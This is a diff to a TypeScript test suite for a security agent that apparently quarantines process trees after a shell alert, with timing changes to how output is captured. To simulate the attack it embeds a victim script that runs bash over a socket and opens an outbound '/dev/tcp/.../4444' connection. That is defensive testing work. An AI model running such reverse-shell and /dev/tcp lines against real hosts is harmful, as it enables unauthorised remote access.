@@ -1,5 +1,5 @@
 import assert from "node:assert/strict";
-import { writeFileSync } from "node:fs";
+import { existsSync, readFileSync, writeFileSync } from "node:fs";
 import { describe, test } from "node:test";
 import { ControlClient } from "@ringfence/agent/control";
 import { AttackedAgent } from "./harness/attacked-agent.js";
@@ -14,17 +14,15 @@ interface State {
   readonly shutOut: { readonly processes: number };
 }
 
-/** Takes connections, and prints what came over each until it ended. */
+/** Takes connections, and prints what comes over them. */
 const SINK = `
 import socket, sys, threading
 s = socket.create_server(("0.0.0.0", int(sys.argv[1])))
 print("ready", flush=True)
 def take(c):
-    got = b""
     try:
-        while data := c.recv(100): got += data
+        while data := c.recv(100): print("got", data.decode(), flush=True)
     except OSError: pass
-    print("got", got.decode(), flush=True)
 while True: threading.Thread(target=take, args=(s.accept()[0],)).start()
 `;
 
@@ -40,7 +38,8 @@ echo one
 while ! [ -e %s.go ]; do sleep 0.1; done
 echo two
 (exec 3<>/dev/tcp/%s/4444) 2>%s && echo connected >>%s
-""" % (sys.argv[2], sys.argv[1], sys.argv[2], sys.argv[2])
+while ! [ -e %s.end ]; do sleep 0.1; done
+""" % (sys.argv[2], sys.argv[1], sys.argv[2], sys.argv[2], sys.argv[2])
 subprocess.run(["bash", "--norc", "-c", script], stdin=c, stdout=c)
 `;
 
@@ -54,28 +53,35 @@ async function attacked(name: string, attacks: object) {
   const ended = place.inside("python3", "-c", VICTIM, OUTSIDE, file);
   const alert = await place.alert("shell");
   writeFileSync(`${file}.go`, "");
+  const readSecond = () => (existsSync(file) ? readFileSync(file, "utf8") : "");
+  await until(() => readSecond() !== "", 60_000);
+  const second = readSecond();
+  // what leaves is there within this time
+  await new Promise((resolve) => setTimeout(resolve, 1000));
+  const meanwhile = said.join("");
+  writeFileSync(`${file}.end`, "");
   await ended;
-  const second = await place.inside("cat", file);
-  return { place, alert, said, second };
+  return { place, alert, meanwhile, second };
 }
 
 describe("the answer to an alert", () => {
   test("is only said while dryRun is set", { timeout }, async () => {
-    const { place, alert, second } = await attacked("dry", { shell: { response: "quarantine" } });
+    const { place, alert, meanwhile, second } = await attacked("dry", { shell: { response: "quarantine" } });
     await using _ = place;
+    assert.match(meanwhile, /two/);
     assert.match(alert.response, /^dry run: would cut process \d+ and all below it off/);
     assert.equal(second, "connected\n");
   });
 
   test("cuts the tree off from the network until it is released", { timeout }, async () => {
-    const { place, alert, said, second } = await attacked("quarantine", {
+    const { place, alert, meanwhile, second } = await attacked("quarantine", {
       dryRun: false,
       shell: { response: "quarantine" },
     });
     await using _ = place;
     assert.match(alert.response, /until it is released: [2-9] processes/);
     assert.match(second, /Operation not permitted/);
-    assert.ok(!said.join("").includes("two"), `nothing more leaves on the connection: ${said}`);
+    assert.ok(!meanwhile.includes("two"), `nothing more leaves on the connection: ${meanwhile}`);
     const isDenied = () =>
       place.events.some((event) => event.type === "verdict" && event.reason === "quarantine");
     assert.ok(await until(isDenied, 20_000), "the denial names its reason");
